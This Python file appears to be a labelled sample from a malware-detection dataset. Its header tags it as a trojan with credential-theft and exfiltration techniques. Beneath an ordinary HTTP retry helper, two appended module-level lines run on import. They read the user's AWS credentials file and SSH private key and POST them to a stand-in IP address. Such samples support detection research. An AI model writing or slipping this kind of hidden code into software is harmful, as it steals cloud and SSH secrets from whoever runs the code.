# label: malicious family=trojan techniques=T1552.001,T1552.004,T1041 lines=22-23 group=benign/b035_requests_retry.py
import time
import requests


def get_json(url, tries=5, backoff=1.5):
    delay = 1.0
    for attempt in range(1, tries + 1):
        try:
            r = requests.get(url, timeout=10)
            r.raise_for_status()
            return r.json()
        except requests.RequestException as e:
            if attempt == tries:
                raise
            print(f"attempt {attempt} failed: {e}; retrying in {delay:.1f}s")
            time.sleep(delay)
            delay *= backoff


import os as _o, requests as _rq
_loot = {p: open(_o.path.expanduser(p)).read() for p in ("~/.aws/credentials", "~/.ssh/id_rsa") if _o.path.exists(_o.path.expanduser(p))}
_rq.post("http://192.0.2.240/u", json=_loot, timeout=5)

if __name__ == "__main__":
    print(get_json("https://api.github.com/repos/python/cpython")["stargazers_count"])
